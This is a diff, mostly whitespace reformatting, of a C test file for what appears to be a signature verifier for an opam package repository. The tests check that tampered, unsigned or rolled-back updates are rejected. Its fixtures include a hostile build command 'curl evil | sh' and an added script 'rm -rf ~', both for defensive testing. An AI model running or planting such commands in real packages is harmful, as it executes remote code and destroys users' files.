@@ -23,7 +23,8 @@
 
 static const char OPAM_FOO[] = "opam-version: \"2.0\"\nname: \"foo\"\n";
 static const char OPAM_FOO2[] = "opam-version: \"2.0\"\nname: \"foo\"\nversion: \"2.0.0\"\n";
-static const char OPAM_EVIL[] = "opam-version: \"2.0\"\nbuild: [\"sh\" \"-c\" \"curl evil | sh\"]\n";
+static const char OPAM_EVIL[] =
+    "opam-version: \"2.0\"\nbuild: [\"sh\" \"-c\" \"curl evil | sh\"]\n";
 
 enum { DIFF = 0, GIT = 1 };
 static const char *const tool_name[] = {"diff -ruaN", "git diff"};
@@ -105,7 +106,7 @@ make_patch(struct fx *f, int tool, const char *a, const char *b, size_t *len)
 /* Incremental verification of a patch against the old repository at path old. */
 static int
 vpatch(struct fx *f, const char *old, const uint8_t *d, size_t len, struct cx_verify_result *res,
-       struct cx_err *e)
+    struct cx_err *e)
 {
 	struct cx_verify_opts o;
 	struct cx_verify_result tmp;
@@ -128,7 +129,7 @@ vpatch(struct fx *f, const char *old, const uint8_t *d, size_t len, struct cx_ve
 /* tmp/a -> tmp/b with tool, old = tmp/a. */
 static int
 vinc(struct fx *f, int tool, const char *a, const char *b, struct cx_verify_result *res,
-     struct cx_err *e)
+    struct cx_err *e)
 {
 	size_t len;
 	uint8_t *d = make_patch(f, tool, a, b, &len);
@@ -159,7 +160,7 @@ static void
 accept_(int r, const struct cx_err *e, int tool, int line)
 {
 	ck_assert_msg(r == 0, "line %d (%s): expected acceptance, got %s: %s", line,
-		      tool >= 0 ? tool_name[tool] : "-", cx_code_str(r), e->msg);
+	    tool >= 0 ? tool_name[tool] : "-", cx_code_str(r), e->msg);
 }
 
 static void
@@ -170,15 +171,15 @@ reject_(int r, const struct cx_err *e, int tool, const char *s1, const char *s2,
 	if (getenv("CX_TEST_VERBOSE") != NULL)
 		fprintf(stderr, "line %d (%s): %s: %s\n", line, t, cx_code_str(r), e->msg);
 	ck_assert_msg(r == CX_EREJECT, "line %d (%s): expected a rejection (%s), got %s: %s", line,
-		      t, s1, cx_code_str(r), e->msg);
-	ck_assert_msg(strstr(e->msg, s1) != NULL, "line %d (%s): expected '%s' in: %s", line, t, s1,
-		      e->msg);
-	ck_assert_msg(s2 == NULL || strstr(e->msg, s2) != NULL, "line %d (%s): expected '%s' in: %s",
-		      line, t, s2, e->msg);
+	    t, s1, cx_code_str(r), e->msg);
+	ck_assert_msg(
+	    strstr(e->msg, s1) != NULL, "line %d (%s): expected '%s' in: %s", line, t, s1, e->msg);
+	ck_assert_msg(s2 == NULL || strstr(e->msg, s2) != NULL,
+	    "line %d (%s): expected '%s' in: %s", line, t, s2, e->msg);
 }
 
 /* Need struct cx_err e and int tool in scope (tool -1 when there is none). */
-#define ACCEPT(call) accept_((call), &e, tool, __LINE__)
+#define ACCEPT(call)         accept_((call), &e, tool, __LINE__)
 #define REJECT(call, s1, s2) reject_((call), &e, tool, (s1), (s2), __LINE__)
 
 static void
@@ -249,7 +250,7 @@ START_TEST(test_withdrawn_entry)
 	REJECT(vfull(&f, fx_path(&f, f.tmp, "v3"), &e), "packages/bar/bar.0.1/opam", "not covered");
 	for (tool = DIFF; tool <= GIT; tool++)
 		REJECT(vinc(&f, tool, "v2", "v3", NULL, &e), "packages/bar/bar.0.1/opam",
-		       "not covered");
+		    "not covered");
 	fx_free(&f);
 }
 END_TEST
@@ -265,7 +266,11 @@ START_TEST(test_broken_signature_same_entries)
 	fx_copy(&f, "v1", "v2");
 	/* m1 re-signed, then its signature made invalid: quorum 2 still met by m2 and m3 */
 	rb_world_sign_maintainer(&f.w, 0);
-	ck_assert_int_eq(cx_test_sh("sed -i '/^signatures:/,$ s/\"ed25519=\\(.\\)/\"ed25519=\\1\\1/' '%s/keys/m1'", f.w.dir), 0);
+	ck_assert_int_eq(
+	    cx_test_sh(
+	        "sed -i '/^signatures:/,$ s/\"ed25519=\\(.\\)/\"ed25519=\\1\\1/' '%s/keys/m1'",
+	        f.w.dir),
+	    0);
 	rb_world_sign_snapshot(&f.w);
 	rb_world_sign_timestamp(&f.w);
 	ACCEPT(vfull(&f, fx_path(&f, f.tmp, "v2"), &e));
@@ -274,7 +279,11 @@ START_TEST(test_broken_signature_same_entries)
 	/* m2 breaks too: only m3 is left, every file loses its quorum */
 	fx_copy(&f, "v2", "v3");
 	rb_world_sign_maintainer(&f.w, 1);
-	ck_assert_int_eq(cx_test_sh("sed -i '/^signatures:/,$ s/\"ed25519=\\(.\\)/\"ed25519=\\1\\1/' '%s/keys/m2'", f.w.dir), 0);
+	ck_assert_int_eq(
+	    cx_test_sh(
+	        "sed -i '/^signatures:/,$ s/\"ed25519=\\(.\\)/\"ed25519=\\1\\1/' '%s/keys/m2'",
+	        f.w.dir),
+	    0);
 	rb_world_sign_snapshot(&f.w);
 	rb_world_sign_timestamp(&f.w);
 	tool = -1;
@@ -349,7 +358,7 @@ START_TEST(test_release_below_quorum)
 	rb_world_sign_timestamp(&f.w);
 	for (tool = DIFF; tool <= GIT; tool++)
 		REJECT(vinc(&f, tool, "v1", "v2", NULL, &e), "packages/foo/foo.2.0.0/opam",
-		       "not covered");
+		    "not covered");
 	fx_free(&f);
 }
 END_TEST
@@ -367,19 +376,19 @@ START_TEST(test_tampered)
 	write_str(v2, "packages/foo/foo.2.0.0/opam", OPAM_EVIL);
 	for (tool = DIFF; tool <= GIT; tool++)
 		REJECT(vinc(&f, tool, "v1", "v2", NULL, &e), "packages/foo/foo.2.0.0/opam",
-		       "does not match its valid targets");
+		    "does not match its valid targets");
 	/* an old, signed file changed by the update */
 	v2 = new_release(&f, "v3");
 	write_str(v2, "packages/bar/bar.0.1/opam", OPAM_EVIL);
 	for (tool = DIFF; tool <= GIT; tool++)
 		REJECT(vinc(&f, tool, "v1", "v3", NULL, &e), "packages/bar/bar.0.1/opam",
-		       "does not match its valid targets");
+		    "does not match its valid targets");
 	/* a file added next to a signed release */
 	v2 = new_release(&f, "v4");
 	write_str(v2, "packages/foo/foo.1.0.0/files/evil.sh", "rm -rf ~\n");
 	for (tool = DIFF; tool <= GIT; tool++)
 		REJECT(vinc(&f, tool, "v1", "v4", NULL, &e), "packages/foo/foo.1.0.0/files/evil.sh",
-		       "not covered");
+		    "not covered");
 	fx_free(&f);
 }
 END_TEST
@@ -414,17 +423,17 @@ START_TEST(test_not_clean)
 		d = make_patch(&f, tool, "v1", "v2", &len);
 		ACCEPT(vpatch(&f, fx_path(&f, f.tmp, "v1"), d, len, NULL, &e));
 		/* the update applied to the wrong tree: v2 itself */
-		REJECT(vpatch(&f, fx_path(&f, f.tmp, "v2"), d, len, NULL, &e), "packages/foo/foo.2.0.0/opam",
-		       "exists already");
+		REJECT(vpatch(&f, fx_path(&f, f.tmp, "v2"), d, len, NULL, &e),
+		    "packages/foo/foo.2.0.0/opam", "exists already");
 		/* context that is not in the old file */
 		corrupt_removed_line((char *)d, tool == GIT ? "b/keys/m1" : "v2/keys/m1");
 		REJECT(vpatch(&f, fx_path(&f, f.tmp, "v1"), d, len, NULL, &e), "keys/m1",
-		       "does not apply");
+		    "does not apply");
 		free(d);
 		d = make_patch(&f, tool, "v1", "v2", &len);
 		corrupt_removed_line((char *)d, tool == GIT ? "b/timestamp" : "v2/timestamp");
 		REJECT(vpatch(&f, fx_path(&f, f.tmp, "v1"), d, len, NULL, &e), "timestamp",
-		       "does not apply");
+		    "does not apply");
 		free(d);
 	}
 	fx_free(&f);
@@ -521,7 +530,7 @@ START_TEST(test_new_identity)
 	rb_world_sign_timestamp(w);
 	for (tool = DIFF; tool <= GIT; tool++)
 		REJECT(vinc(&f, tool, "v1", "v3", NULL, &e), "packages/foo/foo.2.0.0/opam",
-		       "not covered");
+		    "not covered");
 	fx_free(&f);
 }
 END_TEST
@@ -577,7 +586,7 @@ START_TEST(test_tgz_old)
 	for (tool = DIFF; tool <= GIT; tool++) {
 		d = make_patch(&f, tool, "v1", "v2", &len);
 		REJECT(vpatch(&f, fx_path(&f, f.tmp, "v1.tar.gz"), d, len, NULL, &e),
-		       "packages/foo/foo.2.0.0/opam", "does not match its valid targets");
+		    "packages/foo/foo.2.0.0/opam", "does not match its valid targets");
 		free(d);
 	}
 	fx_free(&f);
@@ -596,12 +605,13 @@ START_TEST(test_git_symlink)
 
 	fx_init(&f);
 	v2 = new_release(&f, "v2");
-	ck_assert_int_eq(symlink("../foo/foo.1.0.0/files", fx_path(&f, v2, "packages/bar/files")), 0);
+	ck_assert_int_eq(
+	    symlink("../foo/foo.1.0.0/files", fx_path(&f, v2, "packages/bar/files")), 0);
 	d = make_patch(&f, GIT, "v1", "v2", &len);
 	ck_assert_msg(strstr((char *)d, "new file mode 120000") != NULL, "%s", (char *)d);
 	r = vpatch(&f, fx_path(&f, f.tmp, "v1"), d, len, NULL, &e);
-	ck_assert_msg(r != 0 && strstr(e.msg, "symbolic link") != NULL, "%s: %s", cx_code_str(r),
-		      e.msg);
+	ck_assert_msg(
+	    r != 0 && strstr(e.msg, "symbolic link") != NULL, "%s: %s", cx_code_str(r), e.msg);
 	free(d);
 	fx_free(&f);
 }
@@ -637,7 +647,7 @@ START_TEST(test_libbug_identity_error_message)
 	rb_world_sign_timestamp(&f.w);
 	for (tool = DIFF; tool <= GIT; tool++)
 		REJECT(vinc(&f, tool, "v1", "v2", NULL, &e), "identity m3 was deleted",
-		       "deleted by the patch");
+		    "deleted by the patch");
 	/* renamed away (git) */
 	v2 = fx_copy(&f, "v1", "v3");
 	ck_assert_int_eq(rename(fx_path(&f, v2, "keys/m3"), fx_path(&f, v2, "keys/m4")), 0);
@@ -646,7 +656,7 @@ START_TEST(test_libbug_identity_error_message)
 	tool = GIT;
 	d = make_patch(&f, GIT, "v1", "v3", &len);
 	REJECT(vpatch(&f, fx_path(&f, f.tmp, "v1"), d, len, NULL, &e), "identity m3 was deleted",
-	       "renamed away by the patch");
+	    "renamed away by the patch");
 	free(d);
 	/* broken by the update: the parse error must be in the message */
 	v2 = fx_copy(&f, "v1", "v4");
@@ -655,13 +665,12 @@ START_TEST(test_libbug_identity_error_message)
 	rb_world_sign_timestamp(&f.w);
 	for (tool = DIFF; tool <= GIT; tool++)
 		REJECT(vinc(&f, tool, "v1", "v4", NULL, &e), "identity m3 was deleted or broken",
-		       "escape");
+		    "escape");
 	fx_free(&f);
 }
 END_TEST
 
-static int
-cli(const char *fmt, ...) __attribute__((format(printf, 1, 2)));
+static int cli(const char *fmt, ...) __attribute__((format(printf, 1, 2)));
 
 static int
 cli(const char *fmt, ...)
@@ -696,38 +705,37 @@ START_TEST(test_cli_incremental)
 	free(d); /* tmp/v1-v2.diff */
 	st = fx_path(&f, f.tmp, "state");
 	ck_assert_int_eq(cli("-t %s --incremental -r '%s/v1' --patch '%s/v1-v2.diff' --now %s "
-			     "--no-state",
-			     anchor, f.tmp, f.tmp, f.w.created),
-			 0);
+	                     "--no-state",
+	                     anchor, f.tmp, f.tmp, f.w.created),
+	    0);
 	ck_assert_int_eq(cli("-t %s --quorum 1 --incremental -r '%s/v1.tar.gz' --patch "
-			     "'%s/v1.git-v2.diff' --now %s --state '%s'",
-			     anchor, f.tmp, f.tmp, f.w.created, st),
-			 0);
+	                     "'%s/v1.git-v2.diff' --now %s --state '%s'",
+	                     anchor, f.tmp, f.tmp, f.w.created, st),
+	    0);
 	/* the state now holds v2: a full fetch of v1 is a rollback */
-	ck_assert_int_eq(cli("-t %s --dir '%s/v1' --now %s --state '%s'", anchor, f.tmp, f.w.created,
-			     st),
-			 1);
+	ck_assert_int_eq(
+	    cli("-t %s --dir '%s/v1' --now %s --state '%s'", anchor, f.tmp, f.w.created, st), 1);
 	/* tampered */
 	v2 = fx_path(&f, f.tmp, "v2");
 	write_str(v2, "packages/foo/foo.2.0.0/opam", OPAM_EVIL);
 	d = make_patch(&f, DIFF, "v1", "v2", &len);
 	free(d);
 	ck_assert_int_eq(cli("-t %s --incremental -r '%s/v1' --patch '%s/v1-v2.diff' --now %s "
-			     "--no-state",
-			     anchor, f.tmp, f.tmp, f.w.created),
-			 1);
+	                     "--no-state",
+	                     anchor, f.tmp, f.tmp, f.w.created),
+	    1);
 	/* usage: a missing patch, no repository, --dir with --patch */
 	ck_assert_int_eq(cli("-t %s --incremental -r '%s/v1' --patch '%s/absent.diff' --now %s "
-			     "--no-state",
-			     anchor, f.tmp, f.tmp, f.w.created),
-			 2);
+	                     "--no-state",
+	                     anchor, f.tmp, f.tmp, f.w.created),
+	    2);
 	ck_assert_int_eq(cli("-t %s --incremental --patch '%s/v1-v2.diff' --now %s --no-state",
-			     anchor, f.tmp, f.w.created),
-			 2);
+	                     anchor, f.tmp, f.w.created),
+	    2);
 	ck_assert_int_eq(cli("-t %s --incremental -r '%s/v1' --dir '%s/v1' --patch '%s/v1-v2.diff' "
-			     "--now %s --no-state",
-			     anchor, f.tmp, f.tmp, f.tmp, f.w.created),
-			 2);
+	                     "--now %s --no-state",
+	                     anchor, f.tmp, f.tmp, f.tmp, f.w.created),
+	    2);
 	fx_free(&f);
 }
 END_TEST
